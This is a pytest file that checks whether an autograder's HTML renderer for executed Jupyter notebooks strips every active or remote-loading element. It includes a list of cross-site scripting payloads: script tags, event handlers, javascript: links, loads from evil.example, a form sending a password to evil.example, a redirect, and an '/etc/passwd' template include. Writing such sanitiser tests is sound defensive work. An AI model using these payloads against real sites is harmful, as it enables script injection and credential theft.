"""The page of an executed notebook: nothing in it acts, loads or leads away.

Every page is read back with an HTML parser, as a browser would, rather than searched for words.
"""

from __future__ import annotations

import base64
import json
import re
import struct
import zlib
from html.parser import HTMLParser
from typing import Any

import pytest

from autograder.pull import page as pages
from autograder.pull.rendering import Renderer

WORDS = pages.Words("en", 300, "A title", "A note.", "CUT", "FEWER CELLS", "NOT SHOWN")
VOID = {"meta", "img", "br", "hr"}


def png(width: int = 4, height: int = 4, *, claim: int = 0) -> str:
    """A real PNG in base64; with `claim`, its header tells that width instead."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + check

    head = struct.pack(">IIBBBBB", claim or width, claim or height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x80" * width) * height)
    body = pages.PNG + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(body).decode()


def markdown(source: str) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source}


def code(*outputs: Any, source: str = "1") -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": list(outputs)}


def shown(**data: Any) -> dict[str, Any]:
    """A display output; `image_png` stands for `image/png`."""
    return {
        "output_type": "display_data",
        "metadata": {},
        "data": {name.replace("_", "/"): value for name, value in data.items()},
    }


def stream(text: Any) -> dict[str, Any]:
    return {"output_type": "stream", "name": "stdout", "text": text}


def notebook(*cells: Any) -> bytes:
    tree = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": list(cells)}
    return json.dumps(tree).encode()


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self, body: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(body.decode("utf-8"))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" not in self.open:
            self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data[:50]}")

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]


HEAD = {"html", "head", "meta", "title", "style", "body", "header", "main"}


def seen(body: bytes) -> Seen:
    """The page, proven harmless."""
    found = Seen(body)
    assert found.open == []
    for tag, attributes in found.tags:
        assert tag in HEAD | pages._TAGS
        for name, value in attributes.items():
            assert name in {"class", "src", "alt", "lang", "charset", "name", "content"} or (
                (tag, name) == ("meta", "http-equiv")
            ), (tag, name)
            if name == "src":
                raw = base64.b64decode(value.removeprefix("data:image/png;base64,"), validate=True)
                assert raw.startswith(pages.PNG)
    assert [tag for tag, _ in found.tags if tag in HEAD] == [
        *("html", "head", *["meta"] * 5, "title", "style", "body", "header", "main")
    ]
    (policy,) = [m["content"] for m in found.named("meta") if "http-equiv" in m]
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    (style,) = re.findall(rb"<style>(.*?)</style>", body, re.DOTALL)
    assert b"url(" not in style
    assert b"@import" not in style
    return found


def page(*cells: Any) -> Seen:
    return seen(pages.page(notebook(*cells), WORDS))


HOSTILE = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "![](https://evil.example/pixel.png)",
    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![](data:image/png;base64,bm90IGEgcG5n)",
    "[click](javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='https://evil.example' target=_top>x</a>",
    "<javascript:alert(1)>",
    "<svg onload=alert(1)><script>1</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<p style='background:url(https://evil.example);position:fixed'>x</p>",
    "<form action=https://evil.example><input name=password><button>Go</button></form>",
    "<object data=x></object><embed src=x><applet></applet>",
    "<video src=https://evil.example/v.mp4 autoplay></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "</main></body></html><script>alert(1)</script>",
    "<!-- --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<title></title><body onload=alert(1)>",
    "<div id=x name=y data-x=z tabindex=1 contenteditable>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "```\n</pre><script>alert(1)</script>\n```",
    "``` <script>\n</pre><script>alert(1)</script>\n```",
    "$</div><script>alert(1)</script>$",
    '<b class="x&quot; onclick=alert(1)">x</b>',
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "{{ 7*7 }} {% include '/etc/passwd' %}",
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_is_left_wherever_it_stands(hostile: str) -> None:
    found = page(
        markdown(hostile),
        markdown(f"# {hostile}\n\n- {hostile}\n\n| a |\n|---|\n| {hostile} |"),
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": hostile},
        {"cell_type": hostile, "metadata": {}, "source": hostile},
        code(
            stream(hostile),
            {**stream(hostile), "name": hostile},
            shown(text_plain=hostile, text_html=hostile, image_svg=hostile, text_latex=hostile),
            shown(text_html=hostile, application_javascript="alert(1)"),
            shown(image_png=f'x"><{hostile}'),
            {"output_type": "error", "ename": hostile, "evalue": hostile, "traceback": [hostile]},
            {"output_type": "error", "ename": hostile, "evalue": hostile, "traceback": []},
            {"output_type": hostile, "text": hostile},
            source=hostile,
        ),
        markdown("the end"),
    )
    assert "the end" in found.text
    assert "49" not in found.text


def test_work_is_shown_as_it_ran() -> None:
    found = page(
        markdown("# Sales\n\n**won** a `day`\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
        code(
            stream("\x1b[31mred\x1b[0m <plain>\n"),
            shown(text_plain=["   k\n", "0  1"], text_html="<table>"),
            shown(image_png=png(), text_plain="<Figure>"),
            {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["line 1", "boom"]},
            source="total = 1 < 2",
        ),
    )
    for words in ("A title", "A note.", "Sales", "red <plain>", "   k\n0  1", "boom", "1 < 2"):
        assert words in found.text.replace("total = ", "")
    assert "<Figure>" not in found.text
    assert len(found.named("img")) == 1
    assert found.named("td")
    assert any("ansi-red-fg" in tag.get("class", "") for tag in found.named("span"))


@pytest.mark.parametrize(
    "image",
    [
        "bm90IGEgcG5n",
        base64.b64encode(b"GIF89a" + b"\0" * 40).decode(),
        base64.b64encode(b"<svg onload=alert(1)>").decode(),
        base64.b64encode(pages.PNG).decode(),
        base64.b64encode(b"GIF89a!!" + base64.b64decode(png())[8:]).decode(),
        png(claim=60_000),
        png(claim=2**32 - 1),
        png()[:-3] + '"><b>',
        "A" * (pages.MAX_IMAGE_BYTES * 2),
        ["\x00", 3, None],
        {"a": 1},
        7,
    ],
)
def test_only_true_images_of_a_sane_size_are_shown(image: Any) -> None:
    found = page(code(shown(image_png=image, text_plain="its words")))
    assert not found.named("img")
    assert "its words" in found.text
    # Beside markdown's own words the tag may stay, with nothing to load.
    address = f"data:image/png;base64,{image}"
    written = page(markdown(f"![x]({address})\n\n<img src='{address}'>"))
    assert not [tag for tag in written.named("img") if "src" in tag]


def test_an_output_that_cannot_be_shown_says_so() -> None:
    assert "NOT SHOWN" in page(code(shown(text_html="<b>only</b>"))).text


def test_floods_are_cut_and_say_so() -> None:
    flood = page(
        code(stream("x" * 50_000_000)),
        code(shown(text_plain=["y\n"] * 1_000_000)),
        code({"output_type": "error", "traceback": ["z\n" * 1_000_000, "the last line"]}),
        code(*[stream("w\n")] * 10_000),
        markdown("v " * 1_000_000),
        code(source="u = 1\n" * 1_000_000),
    )
    assert flood.text.count("CUT") == 6
    assert "the last line" in flood.text
    assert len(flood.text) < 6 * pages.MAX_TEXT


def test_the_whole_page_has_a_cap() -> None:
    large = png(700, 700)
    cells = [code(stream("x" * 19_000), shown(image_png=large)) for _ in range(1000)]
    body = pages.page(notebook(*cells), WORDS)
    found = seen(body)
    assert "FEWER CELLS" in found.text
    assert len(found.text) < pages.MAX_ALL_TEXT + 100_000
    assert len(body) < 12 * 2**20


@pytest.mark.parametrize(
    "tree",
    [
        {},
        {"cells": None},
        {"cells": {"a": 1}},
        {"cells": [None, 1, "x", [], {}]},
        {"cells": [{"cell_type": ["code"], "source": {"a": 1}, "outputs": "x"}]},
        {"cells": [code(None, 3, [], {"output_type": "stream"}, shown()), code(source="")]},
        {"cells": [{"cell_type": "code", "source": [1, None, "x"], "execution_count": "<b>"}]},
        {"cells": [code(shown(text_plain="\ud800 \u202e \ufffe \x1b]0;x\x07"))]},
        [],
    ],
)
def test_odd_notebooks_have_a_page_all_the_same(tree: Any) -> None:
    seen(pages.page(json.dumps(tree).encode(), WORDS))


BOMBS = {
    "not json": b"{",
    "deep json": b"[" * 500_000,
    "quotes": notebook(*[markdown(">" * 19_000 + "x") for _ in range(50)]),
    "lists": notebook(markdown("\n".join("  " * n + "- x" for n in range(400)))),
    "brackets": notebook(*[markdown("[" * 19_000 + "](" * 300) for _ in range(50)]),
    "stars": notebook(*[markdown("*a **b " * 2_700) for _ in range(50)]),
    "backticks": notebook(*[markdown(" ".join("`" * n for n in range(190))) for _ in range(50)]),
    "tags": notebook(*[markdown("<div>" * 3_900) for _ in range(50)]),
    "tables": notebook(*[markdown("|" * 9_000 + "\n" + "|-" * 4_500) for _ in range(50)]),
    "entities": notebook(*[markdown("&amp" * 4_900) for _ in range(50)]),
    "source": notebook(*[code(source="('" * 9_900) for _ in range(50)]),
    "escapes": notebook(*[code(stream("\x1b[31m\x1b[4mx" * 2_000)) for _ in range(50)]),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_has_a_harmless_page_or_none_and_the_caller_goes_on(bomb: str) -> None:
    with Renderer("ko", "w1d3-joins", wall_s=2) as renderer:
        made = renderer.render(BOMBS[bomb])
    if made is not None:
        seen(made)
    assert made is None or bomb not in ("not json", "deep json")


def test_the_child_knows_no_secret_and_the_page_speaks_the_cohort_s_language(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "a-secret")
    monkeypatch.setenv("PYTHONSTARTUP", str(tmp_path / "x"))
    with Renderer("ko", "w1d3-joins") as renderer:
        process = renderer._process
        assert process is not None
        with open(f"/proc/{process.pid}/environ", "rb") as file:  # noqa: PTH123
            environment = file.read()
        made = renderer.render(notebook(code(stream("x" * 30_000))))
    assert made is not None
    assert b"a-secret" not in environment
    found = seen(made)
    assert "실행된 노트북 · w1d3-joins" in found.text
    assert "너무 길어서" in found.text
    assert found.named("html") == [{"lang": "ko"}]


def test_nothing_is_left_running_where_no_notebook_came() -> None:
    with Renderer("en", "w1d3-joins") as renderer:
        process = renderer._process
    assert process is not None
    assert process.returncode is not None
